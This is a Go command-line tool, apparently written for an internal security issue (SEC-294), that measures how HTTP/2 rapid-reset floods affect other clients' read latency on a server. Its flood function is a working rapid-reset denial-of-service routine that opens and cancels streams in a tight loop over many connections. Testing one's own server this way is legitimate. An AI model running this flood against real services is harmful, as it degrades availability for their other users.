// Command flood measures what a client who opens HTTP/2 streams and resets them at
// once does to others (SEC-294): the times of reads by another client, without and
// with the flood, and their ratio.
//
//	flood -addr 127.0.0.1:8080 -token writ_pat_…
package main

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"slices"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func main() {
	addr, token := flag.String("addr", "127.0.0.1:8080", "of the node"), flag.String("token", "", "of a user who may read")
	conns, seconds := flag.Int("connections", 8, "of the flood"), flag.Int("seconds", 5, "to measure each time")
	flag.Parse()
	quiet := measure(*addr, *token, *seconds)
	ctx, stop := context.WithCancel(context.Background())
	var resets, dials atomic.Int64
	var group sync.WaitGroup
	for range *conns {
		group.Go(func() {
			for ctx.Err() == nil {
				dials.Add(1)
				flood(ctx, *addr, *token, &resets)
			}
		})
	}
	time.Sleep(500 * time.Millisecond)
	loaded := measure(*addr, *token, *seconds)
	stop()
	group.Wait()
	fmt.Printf("quiet: p50 %v p99 %v; flooded: p50 %v p99 %v, %.1f times; %d resets on %d connections\n",
		quiet[0], quiet[1], loaded[0], loaded[1], float64(loaded[1])/float64(quiet[1]), resets.Load(), dials.Load())
}

// measure reads, one call after the other, and returns the median and p99.
func measure(addr, token string, seconds int) [2]time.Duration {
	var times []time.Duration
	for end := time.Now().Add(time.Duration(seconds) * time.Second); time.Now().Before(end); {
		req, _ := http.NewRequest(http.MethodPost, "http://"+addr+"/resources/v3alpha/targets/_search", bytes.NewReader([]byte("[]")))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Authorization", "Bearer "+token)
		begun := time.Now()
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			continue
		}
		_, _ = io.Copy(io.Discard, res.Body)
		_ = res.Body.Close()
		if res.StatusCode != http.StatusOK {
			fmt.Fprintln(os.Stderr, res.Status)
		}
		times = append(times, time.Since(begun))
	}
	slices.Sort(times)
	return [2]time.Duration{times[len(times)/2], times[len(times)*99/100]}
}

// flood opens and resets on one connection until it is closed.
func flood(ctx context.Context, addr, token string, resets *atomic.Int64) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return
	}
	defer conn.Close()
	go func() { _, _ = io.Copy(io.Discard, conn) }()
	_, _ = io.WriteString(conn, http2.ClientPreface)
	framer := http2.NewFramer(conn, nil)
	_ = framer.WriteSettings()
	var headers bytes.Buffer
	encoder := hpack.NewEncoder(&headers)
	for stream := uint32(1); ctx.Err() == nil && stream < 1<<30; stream += 2 {
		headers.Reset()
		for _, field := range [][2]string{
			{":method", "POST"}, {":scheme", "http"}, {":path", "/writ.action.v3alpha.ServiceActions/SearchTargets"}, {":authority", addr},
			{"content-type", "application/grpc"}, {"te", "trailers"}, {"authorization", "Bearer " + token},
		} {
			_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
		}
		if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: headers.Bytes(), EndHeaders: true}) != nil ||
			framer.WriteData(stream, true, make([]byte, 5)) != nil || framer.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
			return
		}
		resets.Add(1)
	}
}
